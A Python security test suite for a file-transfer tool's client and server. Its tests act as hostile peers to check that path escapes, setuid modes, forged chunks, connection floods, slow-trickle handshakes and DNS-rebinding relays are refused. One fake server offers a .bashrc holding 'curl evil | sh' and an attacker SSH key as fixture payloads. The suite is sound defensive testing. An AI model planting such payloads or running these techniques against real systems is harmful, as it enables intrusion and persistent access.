"""accelnet xfer under attack (issue 10, items 7-12): each test plays the attacker, a hostile
server or client speaking the wire format of src/xfer/wire.h by hand where the attack needs
one, and checks that what it tries is refused. Hashes are computed with the system's
libxxhash (through ctypes), the same library accelnet links."""

import ctypes
import fcntl
import json
import os
import select
import socket
import struct
import subprocess
import threading
import time

from harness import BIN, free_port, wait_until
from test_xfer import digest, make_file, metric, send, serve

MAGIC = 0x31465841
CHALLENGE, HELLO, OK, ERR, MANIFEST, NEED, CHUNK, ACK, FINISH, DONE, GET, BATCH, BATCH_ACK = \
    range(1, 14)
ROLE_DATA = 2
VERSION = 3  # src/xfer/wire.h XFER_VERSION

_xx = ctypes.CDLL("libxxhash.so.0")
_xx.XXH3_64bits.restype = ctypes.c_uint64
_xx.XXH3_64bits.argtypes = [ctypes.c_char_p, ctypes.c_size_t]


class _H128(ctypes.Structure):
    _fields_ = [("low64", ctypes.c_uint64), ("high64", ctypes.c_uint64)]


_xx.XXH3_128bits.restype = _H128
_xx.XXH3_128bits.argtypes = [ctypes.c_char_p, ctypes.c_size_t]


def xxh64(data):
    return _xx.XXH3_64bits(data, len(data))


def whole_hash(chunk_hashes):
    """A file's whole hash as FINISH carries it: XXH3-128 over its chunk hashes (LE), canonical."""
    buf = b"".join(struct.pack("<Q", h) for h in chunk_hashes)
    h = _xx.XXH3_128bits(buf, len(buf))
    return struct.pack(">QQ", h.high64, h.low64)


def chunks_of(data, chunk):
    return [data[i:i + chunk] for i in range(0, len(data), chunk)]


def manifest(files, chunk=64 * 1024, fwd=(), last=True, totals=None):
    """files: [(path, size, mode[, mtime_ns])] -> MANIFEST meta: the whole manifest in one part,
    or one part of several (last=False; the last part carries <totals>, (files, bytes) over all
    parts, by default this part's own)."""
    out = struct.pack("<III", chunk, len(files), len(fwd))
    for hop in fwd:
        out += struct.pack("<H", len(hop)) + hop.encode()
    for path, size, mode, *mtime in files:
        p = path.encode()
        out += struct.pack("<H", len(p)) + p + struct.pack("<QIQ", size, mode, mtime[0] if mtime else 0)
    if not last:
        return out + b"\x00"
    nfiles, nbytes = totals or (len(files), sum(f[1] for f in files))
    return out + struct.pack("<BIQ", 1, nfiles, nbytes)


class Wire:
    """One xfer connection spoken by hand."""

    def __init__(self, sock):
        self.s = sock

    @classmethod
    def dial(cls, port, host="127.0.0.1", source=None, timeout=20):
        s = socket.create_connection((host, port), timeout=timeout,
                                     source_address=(source, 0) if source else None)
        return cls(s)

    def exact(self, n):
        b = b""
        while len(b) < n:
            got = self.s.recv(n - len(b))
            if not got:
                raise ConnectionError("peer closed")
            b += got
        return b

    def frame(self):
        magic, t, _, _, mlen, dlen = struct.unpack("<IBBHII", self.exact(16))
        assert magic == MAGIC, hex(magic)
        return t, self.exact(mlen), dlen

    def send(self, t, meta=b"", data=b"", data_len=None):
        n = len(data) if data_len is None else data_len
        self.s.sendall(struct.pack("<IBBHII", MAGIC, t, 0, 0, len(meta), n) + meta + data)

    def welcome(self, answer=OK, meta=b""):
        """Server handshake: the client's magic, a CHALLENGE, its HELLO, then <answer>
        (with <meta>); the HELLO's meta."""
        self.exact(4)
        self.send(CHALLENGE, os.urandom(32))
        _, hello, _ = self.frame()
        self.send(answer, meta)
        return hello

    def hello(self, session, role=ROLE_DATA, version=VERSION):
        """Client handshake without a token: (type, meta) of the server's answer."""
        self.s.sendall(struct.pack("<I", MAGIC))
        t, _, _ = self.frame()
        if t != CHALLENGE:
            return t, b""
        self.send(HELLO, struct.pack("<IB", version, role) + session + bytes(32))
        t, meta, _ = self.frame()
        return t, meta

    def close(self):
        self.s.close()


def start_serve(env, dest, args=(), name="serve", insecure=True, port=None):
    """`xfer serve` on 127.0.0.1 with extra <args>; (process, port)."""
    port = port or free_port()
    argv = [BIN, "xfer", "serve", "--listen", f"127.0.0.1:{port}", "--dir", dest] + list(args)
    if insecure:
        argv.append("--insecure")
    p = env.start(argv, name)

    def up():
        if p.poll() is not None:
            raise AssertionError(f"{name} exited with {p.returncode}:\n{env.log(p)}")
        return "listening" in env.log(p)
    wait_until(up, f"{name} listening")
    return p, port


class FakeServer:
    """A hostile `xfer serve` for `xfer get`: answers the handshake without knowing any token,
    then offers <files> [(name, bytes, mode)] whatever the client asked for. .result holds the
    last frame type it got back (DONE when the client accepted everything)."""

    def __init__(self, files, chunk=64 * 1024, proof=b""):
        self.files, self.chunk, self.proof = files, chunk, proof
        self.ls = socket.socket()
        self.ls.bind(("127.0.0.1", 0))
        self.ls.listen(16)
        self.port = self.ls.getsockname()[1]
        self.result, self.asked = None, None
        self.th = threading.Thread(target=self.run, daemon=True)
        self.th.start()

    def run(self):
        try:
            c, _ = self.ls.accept()
            c.settimeout(20)
            w = Wire(c)
            w.welcome(OK, self.proof)
            t, meta, _ = w.frame()
            self.asked = meta
            man = manifest([(n, len(b), m) for n, b, m in self.files], chunk=self.chunk)
            w.send(MANIFEST, man)
            t, need, _ = w.frame()
            if t != NEED:
                self.result = t
                return
            for i, (_, data, _) in enumerate(self.files):
                for k, part in enumerate(chunks_of(data, self.chunk)):
                    w.send(CHUNK, struct.pack("<IIQ", i, k, xxh64(part)), part)
                    t, _, _ = w.frame()
            fin = b"".join(whole_hash([xxh64(p) for p in chunks_of(d, self.chunk)]) for _, d, _ in self.files)
            w.send(FINISH, fin)
            self.result = w.frame()[0]
            c.close()
        except (OSError, ConnectionError, AssertionError, struct.error):
            pass

    def close(self):
        self.ls.close()
        self.th.join(10)


def get(port, names, to, extra=()):
    r = subprocess.run([BIN, "xfer", "get", f"127.0.0.1:{port}"] + names +
                       ["--to", to, "--streams", "1", "--quiet"] + list(extra),
                       capture_output=True, text=True, timeout=60)
    return r.returncode, r.stderr


def umask_now():
    u = os.umask(0o022)
    os.umask(u)
    return u


# item 7: xfer get trusts the server


def _trickled_until_cut(sock, data, pace):
    """Send <data> a byte every <pace> seconds; True as soon as the peer cuts the connection,
    False when every byte went and it still holds it."""
    for b in data:
        try:
            sock.sendall(bytes([b]))
        except OSError:
            return True
        r, _, _ = select.select([sock], [], [], pace)
        if r:
            try:
                return sock.recv(1) == b""
            except OSError:
                return True
    return False

def test_get_refuses_names_not_asked_for(env):
    """A fake server answering `get models/m1` with .bashrc and .ssh/authorized_keys (setuid
    modes): the client refuses the manifest, writes nothing and exits non-zero."""
    to = os.path.join(env.dir, "home")
    os.makedirs(to)
    fake = FakeServer([(".bashrc", b"curl evil | sh\n", 0o6777),
                       (".ssh/authorized_keys", b"ssh-ed25519 AAAA attacker\n", 0o600)])
    env.on_cleanup.append(fake.close)
    rc, err = get(fake.port, ["models/m1"], to)
    assert rc != 0 and "not asked for" in err, (rc, err)
    assert os.listdir(to) in ([], [".accelnet-xfer"]), os.listdir(to)
    assert fake.result != DONE


def test_get_sanitises_modes_and_stays_beneath_to(env):
    """A name beneath what was asked lands, but without setuid/setgid/sticky bits and with the
    client's umask applied; a symlink inside --to does not lead a file out of it."""
    to, outside = os.path.join(env.dir, "to"), os.path.join(env.dir, "outside")
    os.makedirs(to)
    os.makedirs(outside)
    fake = FakeServer([("m1/run.sh", b"#!/bin/sh\necho hi\n", 0o6777)])
    env.on_cleanup.append(fake.close)
    rc, err = get(fake.port, ["models/m1"], to)
    assert rc == 0, err
    mode = os.stat(os.path.join(to, "m1", "run.sh")).st_mode & 0o7777
    assert mode == 0o777 & ~umask_now(), oct(mode)
    os.symlink(outside, os.path.join(to, "m2"))
    fake2 = FakeServer([("m2/evil", b"x" * 100, 0o644)])
    env.on_cleanup.append(fake2.close)
    rc, err = get(fake2.port, ["m2"], to)
    assert rc != 0 and os.listdir(outside) == [], (rc, err, os.listdir(outside))


def test_get_with_token_needs_server_proof(env):
    """With --token the client requires the server to prove it holds the token too: a fake
    server that answers OK without the proof is refused before anything is written."""
    to = os.path.join(env.dir, "to")
    os.makedirs(to)
    tok = env.write("token", "pull-token\n")
    fake = FakeServer([("f.bin", b"forged", 0o644)])
    env.on_cleanup.append(fake.close)
    rc, err = get(fake.port, ["f.bin"], to, ["--token", tok])
    assert rc != 0 and "prove" in err, (rc, err)
    assert not os.path.exists(os.path.join(to, "f.bin"))
    fake2 = FakeServer([("f.bin", b"forged", 0o644)], proof=os.urandom(32))
    env.on_cleanup.append(fake2.close)
    rc, err = get(fake2.port, ["f.bin"], to, ["--token", tok])
    assert rc != 0 and "prove" in err, (rc, err)
    # a real server with the token proves it: the pull goes through
    served = os.path.join(env.dir, "served")
    os.makedirs(served)
    make_file(os.path.join(served, "f.bin"), 100000)
    _, port = start_serve(env, served, ["--token", tok], insecure=False)
    rc, err = get(port, ["f.bin"], to, ["--token", tok])
    assert rc == 0 and digest(os.path.join(to, "f.bin")) == digest(os.path.join(served, "f.bin")), err


def test_help_says_what_is_authenticated(env):
    """--help says that without --tls the server is not authenticated by a certificate, and
    that serve needs --token, --tls-ca or an explicit --insecure."""
    r = subprocess.run([BIN, "xfer", "--help"], capture_output=True, text=True)
    assert r.returncode == 0
    assert "not authenticated" in r.stdout and "--insecure" in r.stdout, r.stdout


# item 8: client-chosen mode bits

def test_serve_masks_client_modes(env):
    """A sender's 6777 does not survive: the file is 0777 & ~umask, never setuid/setgid/sticky."""
    src, dst = make_file(os.path.join(env.dir, "f.bin"), 5000), os.path.join(env.dir, "dst")
    os.makedirs(dst)
    os.chmod(src, 0o6777)
    _, port = start_serve(env, dst)
    send([src, f"127.0.0.1:{port}"])
    mode = os.stat(os.path.join(dst, "f.bin")).st_mode & 0o7777
    assert mode == 0o777 & ~umask_now(), oct(mode)


# item 9: open by default, and bcast hops

def test_serve_is_not_open_by_default(env):
    """serve without --token or --tls-ca refuses to start and says how; with --insecure it
    starts and warns."""
    dst = os.path.join(env.dir, "dst")
    os.makedirs(dst)
    p = env.start([BIN, "xfer", "serve", "--listen", f"127.0.0.1:{free_port()}", "--dir", dst], "open")
    wait_until(lambda: p.poll() is not None or "listening" in env.log(p), "serve to exit or listen")
    assert p.poll() is not None and p.returncode != 0, env.log(p)
    assert "--token" in env.log(p) and "--insecure" in env.log(p), env.log(p)
    q, _ = start_serve(env, dst, name="insecure")
    assert "warning" in env.log(q).lower() and "--insecure" in env.log(q), env.log(q)


def test_bcast_hops_need_relay_to(env):
    """A client's bcast hop list no longer makes the server dial where it says: without
    --relay-to the hop is refused (and nothing is dialed); outside the allow-list too."""
    dst = os.path.join(env.dir, "dst")
    os.makedirs(dst)
    victim = socket.socket()
    victim.bind(("127.0.0.1", 0))
    victim.listen(4)
    victim.setblocking(False)
    env.on_cleanup.append(victim.close)
    hop = f"127.0.0.1:{victim.getsockname()[1]}"
    for args in ([], ["--relay-to", "10.0.0.0/8"]):
        _, port = start_serve(env, dst, args, name=f"serve{len(args)}")
        w = Wire.dial(port)
        assert w.hello(os.urandom(16))[0] == OK
        w.send(MANIFEST, manifest([("f.bin", 10, 0o644)], fwd=[hop]))
        t, meta, _ = w.frame()
        w.close()
        assert t == ERR and b"--relay-to" in meta, (args, t, meta)
        try:
            victim.accept()
            raise AssertionError(f"the server dialed {hop} for a client ({args})")
        except BlockingIOError:
            pass
    # an allowed chain works
    d2 = os.path.join(env.dir, "r2")
    os.makedirs(d2)
    _, p2 = start_serve(env, d2, name="hop2")
    _, p1 = start_serve(env, dst, ["--relay-to", "127.0.0.0/8"], name="hop1")
    src = make_file(os.path.join(env.dir, "f.bin"), 300000)
    send([src, f"127.0.0.1:{p1}", f"127.0.0.1:{p2}"], cmd="bcast")
    assert digest(src) == digest(os.path.join(d2, "f.bin"))


# item 10: exhaustion

def cpu_ticks(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return int(fields[11]) + int(fields[12])  # utime + stime


def nfds(pid):
    return len(os.listdir(f"/proc/{pid}/fd"))


def test_accept_pauses_at_descriptor_limit(env):
    """At the descriptor limit the accept loop does not spin: over a second with connections
    waiting that cannot be accepted, serve uses a small share of a CPU (a spinning loop uses
    all of it); once descriptors free up, waiting connections are served."""
    dst = os.path.join(env.dir, "dst")
    os.makedirs(dst)
    port = free_port()
    p = env.start(["prlimit", "--nofile=40:40", BIN, "xfer", "serve", "--listen", f"127.0.0.1:{port}",
                   "--dir", dst, "--insecure"], "serve")
    wait_until(lambda: "listening" in env.log(p), "serve listening")
    socks = [socket.create_connection(("127.0.0.1", port)) for _ in range(60)]
    wait_until(lambda: nfds(p.pid) >= 39, "serve at its descriptor limit")
    t0, c0 = time.monotonic(), cpu_ticks(p.pid)
    time.sleep(1.0)  # a measurement over an interval: nothing to wait for
    used = (cpu_ticks(p.pid) - c0) / os.sysconf("SC_CLK_TCK")
    wall = time.monotonic() - t0
    assert used < 0.5 * wall, f"serve used {used:.2f} s of CPU in {wall:.2f} s at the descriptor limit"
    for s in socks[:30]:
        s.close()
    w = Wire(socks[-1])
    w.s.settimeout(20)
    w.s.sendall(struct.pack("<I", MAGIC))
    assert w.frame()[0] == CHALLENGE  # a connection that waited in the backlog is served
    for s in socks[30:]:
        s.close()


def test_connection_caps(env):
    """Connections are capped per address (default 128) and in all: the ones over the cap get
    an ERR that says why instead of a thread each."""
    dst = os.path.join(env.dir, "dst")
    os.makedirs(dst)
    _, port = start_serve(env, dst)
    conns, answers = [], []
    for _ in range(130):
        w = Wire.dial(port)
        w.s.sendall(struct.pack("<I", MAGIC))
        conns.append(w)
    for w in conns:
        t, meta, _ = w.frame()
        answers.append((t, meta))
    assert sum(t == CHALLENGE for t, _ in answers) == 128, [t for t, _ in answers]
    assert all(t == ERR and b"too many connections" in m for t, m in answers[128:]), answers[128:]
    for w in conns:
        w.close()
    # the flags: 2 per address, 3 in all
    _, port = start_serve(env, dst, ["--max-conns", "3", "--max-conns-per-addr", "2"], name="capped")
    got = []
    for src in ("127.0.0.1", "127.0.0.1", "127.0.0.1", "127.0.0.2", "127.0.0.3"):
        w = Wire.dial(port, source=src)
        w.s.sendall(struct.pack("<I", MAGIC))
        t, meta, _ = w.frame()
        got.append((t, meta))
        conns.append(w)
    assert [t for t, _ in got] == [CHALLENGE, CHALLENGE, ERR, CHALLENGE, ERR], got
    assert b"address" in got[2][1] and b"too many connections" in got[4][1], got
    for w in conns:
        w.close()


def test_handshake_has_a_total_deadline(env):
    """A client trickling its HELLO a byte at a time, each byte well within any per-read
    timeout, is cut off at the handshake deadline (--handshake-ms) rather than held for ever."""
    dst = os.path.join(env.dir, "dst")
    os.makedirs(dst)
    _, port = start_serve(env, dst, ["--handshake-ms", "2000"])
    w = Wire.dial(port)
    w.s.sendall(struct.pack("<I", MAGIC))
    assert w.frame()[0] == CHALLENGE
    hello = struct.pack("<IBBHII", MAGIC, HELLO, 0, 0, 53, 0) + struct.pack("<IB", VERSION, 2) + bytes(48)
    closed = _trickled_until_cut(w.s, hello[:20], 0.5)  # a byte every half second: 10 s
    assert closed, "serve still holds a connection that has trickled its handshake for 10 s"


def test_a_frame_has_a_deadline_however_it_trickles(env):
    """Issue 32: timeouts are per read, so a sender trickling a BATCH (or a CHUNK) a byte every
    few seconds held its connection, and a receiver thread, for ever. A frame must come whole
    within --frame-ms of its first byte (and a second more per --min-rate-kib KiB it carries):
    the connection is cut, and counted. The time between frames does not count. ~4 s."""
    dst = os.path.join(env.dir, "dst")
    os.makedirs(dst)
    mport = free_port()
    _, port = start_serve(env, dst, ["--frame-ms", "1000", "--metrics", f"127.0.0.1:{mport}"])
    data = os.urandom(64)
    w, t, _ = hold_manifest(port, [("a", len(data), 0o644)])
    assert t == NEED, t
    # idle between frames for longer than --frame-ms: not cut
    r, _, _ = select.select([w.s], [], [], 1.5)
    assert not r, "serve cut a connection that was idle between frames"
    # a BATCH of one file: its head and meta at once, then its data a byte every 0.25 s
    w.s.sendall(struct.pack("<IBBHII", MAGIC, BATCH, 0, 0, 20, len(data)) +
                struct.pack("<IIIQ", 1, 0, len(data), xxh64(data)))
    closed = _trickled_until_cut(w.s, data[:40], 0.25)  # a byte every quarter second: 10 s
    assert closed, "serve still holds a connection that has trickled one frame for 10 s"
    wait_until(lambda: metric(mport, "accelnet_xfer_slow_frames_total") == 1,
               "the cut connection counted")
    # a sender at full speed is not troubled by the deadline
    src = os.path.join(env.dir, "f.bin")
    make_file(src, 3 * 1024 * 1024 + 7)
    send([src, f"127.0.0.1:{port}", "--streams", "2", "--chunk-kib", "256"])
    assert digest(os.path.join(dst, "f.bin")) == digest(src)
    assert metric(mport, "accelnet_xfer_slow_frames_total") == 1


def hold_manifest(port, files, chunk=64 * 1024):
    w = Wire.dial(port, timeout=120)
    assert w.hello(os.urandom(16))[0] == OK
    w.send(MANIFEST, manifest(files, chunk=chunk))
    t, meta, _ = w.frame()
    return w, t, meta


def test_manifest_limits_and_leftovers(env):
    """A manifest of 6000 files holds no descriptor per file and leaves nothing in the state
    directory when its transfer goes away; a refused one leaves nothing either; more files than
    --max-files (default 10000) are refused."""
    dst = os.path.join(env.dir, "dst")
    state = os.path.join(dst, ".accelnet-xfer")
    os.makedirs(dst)
    mport = free_port()
    p, port = start_serve(env, dst, ["--metrics", f"127.0.0.1:{mport}"])
    base = nfds(p.pid)
    files = [(f"d/f{i}", 1, 0o644) for i in range(6000)]
    w, t, meta = hold_manifest(port, files)
    assert t == NEED, (t, meta)
    assert nfds(p.pid) < base + 50, f"{nfds(p.pid) - base} descriptors held for one manifest"
    w.close()
    from test_xfer import metric
    wait_until(lambda: metric(mport, "accelnet_xfer_sessions") == 0, "the session to end")
    assert not os.path.exists(state) or os.listdir(state) == [], len(os.listdir(state))
    w, t, meta = hold_manifest(port, files + [("d/f1", 1, 0o644)])  # refused: a name twice
    w.close()
    assert t == ERR and b"twice" in meta, (t, meta)
    assert not os.path.exists(state) or os.listdir(state) == [], len(os.listdir(state))
    w, t, meta = hold_manifest(port, [(f"f{i}", 1, 0o644) for i in range(10001)])
    w.close()
    assert t == ERR and b"too many files" in meta, (t, meta)


def test_space_reserved_across_sessions(env):
    """Three concurrent 12 MiB transfers to a 16 MiB disk: one is accepted, the others are
    refused up front because the first one's bytes are reserved."""
    dst = os.path.join(env.dir, "small")
    os.makedirs(dst)
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=16m", "tmpfs", dst], check=True)
    env.on_cleanup.append(lambda: subprocess.run(["umount", "-l", dst]))
    _, port = start_serve(env, dst)
    held, types = [], []
    for i in range(3):
        w, t, meta = hold_manifest(port, [(f"f{i}.bin", 12 << 20, 0o644)])
        held.append(w)
        types.append((t, meta))
    assert [t for t, _ in types] == [NEED, ERR, ERR], types
    assert all(b"space" in m for _, m in types[1:]), types
    for w in held:
        w.close()


# item 11: integrity race

def test_second_writer_cannot_forge_verified_chunk(env):
    """A second connection of the same transfer writes into a chunk while the sender's copy
    arrives and is verified, and finishes its forged bytes afterwards: the file renamed into
    place is exactly what was verified, or nothing is renamed and FINISH says why."""
    dst = os.path.join(env.dir, "dst")
    state = os.path.join(dst, ".accelnet-xfer")
    os.makedirs(dst)
    _, port = start_serve(env, dst)
    chunk = 64 * 1024
    good = os.urandom(chunk)
    forged = b"F" * chunk
    session = os.urandom(16)
    a = Wire.dial(port)
    assert a.hello(session)[0] == OK
    a.send(MANIFEST, manifest([("f.bin", chunk, 0o644)], chunk=chunk))
    assert a.frame()[0] == NEED
    b = Wire.dial(port)
    assert b.hello(session)[0] == OK
    b.send(CHUNK, struct.pack("<IIQ", 0, 0, xxh64(forged)), forged[:chunk // 2], data_len=chunk)

    def second_writer_holds_the_chunk():
        # the part is created by the chunk's first writer, which counts itself a writer under
        # the same lock: from then on the sender's copy arrives as a second writer's. (Its
        # bytes land a piece at a time, so its first half may not be in the file yet.)
        return os.path.exists(state) and any(f.endswith(".part") for f in os.listdir(state))
    wait_until(second_writer_holds_the_chunk, "the second writer holding the chunk")
    a.send(CHUNK, struct.pack("<IIQ", 0, 0, xxh64(good)), good)
    t, meta, _ = a.frame()
    assert t == ACK and meta[8] == 0, (t, meta)  # verified
    b.s.sendall(forged[chunk // 2:])
    assert b.frame()[0] == ACK
    a.send(FINISH, whole_hash([xxh64(good)]))
    t, meta, _ = a.frame()
    final = os.path.join(dst, "f.bin")
    if os.path.exists(final):
        with open(final, "rb") as f:
            assert f.read() == good, "a forged chunk was renamed into place"
    assert t == ERR and b"overwritten" in meta, (t, meta)
    # a write to a chunk already verified is ignored: the sender's run again lands intact
    a.close()
    b.close()
    a = Wire.dial(port)
    session = os.urandom(16)
    assert a.hello(session)[0] == OK
    a.send(MANIFEST, manifest([("f.bin", chunk, 0o644)], chunk=chunk))
    assert a.frame()[0] == NEED
    a.send(CHUNK, struct.pack("<IIQ", 0, 0, xxh64(good)), good)
    assert a.frame()[1][8] == 0
    b = Wire.dial(port)
    assert b.hello(session)[0] == OK
    b.send(CHUNK, struct.pack("<IIQ", 0, 0, xxh64(forged)), forged)
    assert b.frame()[1][8] == 1  # duplicate: kept what was verified
    a.send(FINISH, whole_hash([xxh64(good)]))
    assert a.frame()[0] == DONE
    with open(final, "rb") as f:
        assert f.read() == good


# item 12: get of a symlinked directory, and metrics inline

def test_get_symlinked_dir_stays_inside(env):
    """`get` of a name that is a symlink to a directory outside DIR is refused without naming
    anything found out there; a symlink inside a tree is skipped."""
    served, outside, to = (os.path.join(env.dir, d) for d in ("served", "outside", "to"))
    for d in (served, outside, to, os.path.join(served, "tree")):
        os.makedirs(d)
    make_file(os.path.join(outside, "secret-name.txt"), 100)
    make_file(os.path.join(served, "tree", "ok.bin"), 1000)
    os.symlink(outside, os.path.join(served, "evil"))
    os.symlink(outside, os.path.join(served, "tree", "out"))
    _, port = start_serve(env, served)
    rc, err = get(port, ["evil"], to)
    assert rc != 0 and "secret-name" not in err and "outside" in err, err
    assert not os.path.exists(os.path.join(to, "evil"))
    rc, err = get(port, ["tree"], to)
    assert rc == 0, err
    assert os.listdir(os.path.join(to, "tree")) == ["ok.bin"], os.listdir(os.path.join(to, "tree"))


def test_idle_metrics_client_does_not_stall_accepts(env):
    """A metrics client that connects and says nothing does not hold up new transfers: a new
    connection gets its CHALLENGE while the idle metrics connection is still open."""
    dst = os.path.join(env.dir, "dst")
    os.makedirs(dst)
    mport = free_port()
    _, port = start_serve(env, dst, ["--metrics", f"127.0.0.1:{mport}"])
    idle = socket.create_connection(("127.0.0.1", mport))
    env.on_cleanup.append(idle.close)

    def accepted():
        out = subprocess.run(["ss", "-ltnH", f"sport = :{mport}"], capture_output=True, text=True).stdout
        return out.split() and out.split()[1] == "0"  # nothing left in the accept queue
    wait_until(accepted, "serve to accept the metrics connection")
    w = Wire.dial(port)
    w.s.sendall(struct.pack("<I", MAGIC))
    assert w.frame()[0] == CHALLENGE
    idle.setblocking(False)
    try:
        still_open = idle.recv(1) != b""
    except BlockingIOError:
        still_open = True
    assert still_open, "the CHALLENGE came only after serve gave up on the idle metrics client"
    w.close()


# review of the fixes above (round 2)

def send_chunks(w, data, chunk=64 * 1024, file=0):
    """Every chunk of file <file> on <w>; the ACK statuses."""
    got = []
    for k, part in enumerate(chunks_of(data, chunk)):
        w.send(CHUNK, struct.pack("<IIQ", file, k, xxh64(part)), part)
        t, meta, _ = w.frame()
        assert t == ACK, (t, meta)
        got.append(meta[8])
    return got


def data_session(port, files):
    w = Wire.dial(port)
    assert w.hello(os.urandom(16))[0] == OK
    w.send(MANIFEST, manifest(files))
    t, meta, _ = w.frame()
    assert t == NEED, (t, meta)
    return w


def test_finish_never_recreates_a_vanished_part(env):
    """Session V sends every chunk of x; session H, with the same file, resumes the part, finds
    it complete and finishes it; then V says FINISH. V must not get DONE for a fresh zero-filled
    part renamed over the good file: x stays intact and V is told to send again."""
    dst = os.path.join(env.dir, "dst")
    os.makedirs(dst)
    _, port = start_serve(env, dst)
    data = os.urandom(2 * 64 * 1024)
    fx = [("x", len(data), 0o644, 123456789)]
    fin = whole_hash([xxh64(p) for p in chunks_of(data, 64 * 1024)])
    v = data_session(port, fx)
    assert send_chunks(v, data) == [0, 0]
    h = data_session(port, fx)
    h.send(FINISH, fin)
    assert h.frame()[0] == DONE
    with open(os.path.join(dst, "x"), "rb") as f:
        assert f.read() == data
    v.send(FINISH, fin)
    t, meta, _ = v.frame()
    with open(os.path.join(dst, "x"), "rb") as f:
        got = f.read()
    assert got == data, f"x damaged by a second FINISH (all zeros: {got == bytes(len(got))})"
    assert t == ERR and b"send again" in meta, (t, meta)


def _one_file_sent(env):
    """A serve, and a session V that has sent every chunk of file x but not FINISH:
    (dst, port, data, manifest entries, V)."""
    dst = os.path.join(env.dir, "dst")
    os.makedirs(dst)
    _, port = start_serve(env, dst)
    data = os.urandom(2 * 64 * 1024)
    fx = [("x", len(data), 0o644, 123456789)]
    v = data_session(port, fx)
    assert send_chunks(v, data) == [0, 0]
    return dst, port, data, fx, v


def test_finish_after_sweep_is_refused(env):
    """The part of a finished-but-not-yet-FINISHed file is swept (its files look abandoned; a
    second serve on the same directory sweeps at start): FINISH is refused, not answered DONE
    with a zero-filled file."""
    dst, port, data, fx, v = _one_file_sent(env)
    state = os.path.join(dst, ".accelnet-xfer")
    old = time.time() - 100 * 3600
    for n in os.listdir(state):
        os.utime(os.path.join(state, n), (old, old))
    q, _ = start_serve(env, dst, name="sweeper")
    wait_until(lambda: "removed 1 abandoned" in env.log(q), "the second serve to sweep the part")
    q.terminate()
    q.wait()
    v.send(FINISH, whole_hash([xxh64(p) for p in chunks_of(data, 64 * 1024)]))
    t, meta, _ = v.frame()
    final = os.path.join(dst, "x")
    if os.path.exists(final):
        with open(final, "rb") as f:
            got = f.read()
        assert got == data, f"FINISH answered {t} and left x damaged (all zeros: {got == bytes(len(got))})"
    assert t == ERR and b"send again" in meta, (t, meta)


def test_refused_manifest_keeps_others_parts(env):
    """Session H's manifest names file x, which session V is about to receive, then a big file
    found in place (hashed, which takes a while) and one too big for the disk. V's first chunk
    lands while H hashes; H is then refused. The refusal must not delete V's part: V goes on
    and finishes x intact."""
    dst = os.path.join(env.dir, "dst")
    state = os.path.join(dst, ".accelnet-xfer")
    os.makedirs(dst)
    big = os.path.join(dst, "big")
    with open(big, "wb") as f:
        f.truncate(1 << 30)  # sparse: slow to hash (seconds), no disk
    st = os.stat(big)
    p, port = start_serve(env, dst)
    data = os.urandom(2 * 64 * 1024)
    parts = chunks_of(data, 64 * 1024)
    fx = ("x", len(data), 0o644, 42)
    v = data_session(port, [fx])
    answer = {}

    def refused():
        w, t, meta = hold_manifest(port, [fx, ("big", st.st_size, 0o644, st.st_mtime_ns), ("huge", 1 << 42, 0o644)])
        w.close()
        answer["h"] = (t, meta)
    th = threading.Thread(target=refused)
    th.start()

    def hashing_big():
        fds = os.path.join("/proc", str(p.pid), "fd")
        for n in os.listdir(fds):
            try:
                if os.readlink(os.path.join(fds, n)) == big:
                    return True
            except OSError:
                pass
        return False
    wait_until(hashing_big, "serve to hash the big file in place")
    v.send(CHUNK, struct.pack("<IIQ", 0, 0, xxh64(parts[0])), parts[0])
    assert v.frame()[1][8] == 0
    before = sorted(os.listdir(state))
    th.join(60)
    t, meta = answer["h"]
    assert t == ERR and b"space" in meta, (t, meta)
    assert sorted(os.listdir(state)) == before, (before, os.listdir(state))
    v.send(CHUNK, struct.pack("<IIQ", 0, 1, xxh64(parts[1])), parts[1])
    assert v.frame()[1][8] == 0
    v.send(FINISH, whole_hash([xxh64(p) for p in parts]))
    t, meta, _ = v.frame()
    assert t == DONE, (t, meta)
    with open(os.path.join(dst, "x"), "rb") as f:
        got = f.read()
    assert got == data, f"x is not what was sent (all zeros: {got == bytes(len(got))})"


def test_get_connections_count_against_caps(env):
    """`get` connections that join a pull are still connections: with --max-conns 4, a client
    cannot hold 40 of them by joining a pull it never answers."""
    served = os.path.join(env.dir, "served")
    os.makedirs(served)
    make_file(os.path.join(served, "f"), 4 << 20)
    p, port = start_serve(env, served, ["--max-conns", "4", "--max-conns-per-addr", "4"])
    session = os.urandom(16)
    getmeta = struct.pack("<I", 64) + struct.pack("<I", 1) + struct.pack("<H", 1) + b"f"
    owner = Wire.dial(port)
    assert owner.hello(session, role=3)[0] == OK
    owner.send(GET, getmeta)
    assert owner.frame()[0] == MANIFEST  # and never answered
    held, refused = [], []
    for _ in range(10):
        w = Wire.dial(port)
        t, meta = w.hello(session, role=3)
        if t != OK:
            refused.append((t, meta))
            w.close()
            continue
        w.send(GET, getmeta)
        held.append(w)
    extra = Wire.dial(port)
    t, _ = extra.hello(os.urandom(16))
    assert len(held) <= 3, f"{len(held)} get connections held past --max-conns 4 (refused: {refused})"
    assert t == ERR, f"a data connection was admitted past --max-conns 4 ({len(held)} get connections held)"
    for w in held + [owner, extra]:
        w.close()


def test_bcast_hop_resolved_once(env):
    """A bcast hop given by name is resolved once: the addresses checked against --relay-to are
    the ones dialed (resolving again to dial could give others: DNS rebinding). Counted as the
    reads of /etc/hosts (glibc reads it at each lookup) while serve admits the manifest."""
    dst = os.path.join(env.dir, "dst")
    os.makedirs(dst)
    victim = socket.socket()
    victim.bind(("127.0.0.1", 0))
    victim.listen(4)
    env.on_cleanup.append(victim.close)
    trace = os.path.join(env.dir, "trace")
    port = free_port()
    p = env.start(["strace", "-f", "-qq", "-e", "trace=openat", "-o", trace, BIN, "xfer", "serve", "--listen",
                   f"127.0.0.1:{port}", "--dir", dst, "--insecure", "--relay-to", "127.0.0.0/8"], "serve")
    wait_until(lambda: "listening" in env.log(p), "serve listening")
    w = Wire.dial(port)
    assert w.hello(os.urandom(16))[0] == OK
    w.send(MANIFEST, manifest([("f.bin", 10, 0o644)], fwd=[f"localhost:{victim.getsockname()[1]}"]))
    c, _ = victim.accept()  # the relay dials the hop: and hangs up at once
    c.close()
    t, meta, _ = w.frame()
    w.close()
    with open(trace) as f:
        lookups = sum("/etc/hosts" in line for line in f)
    assert lookups == 1, f"the hop's name was resolved {lookups} times (answer {t} {meta!r})"


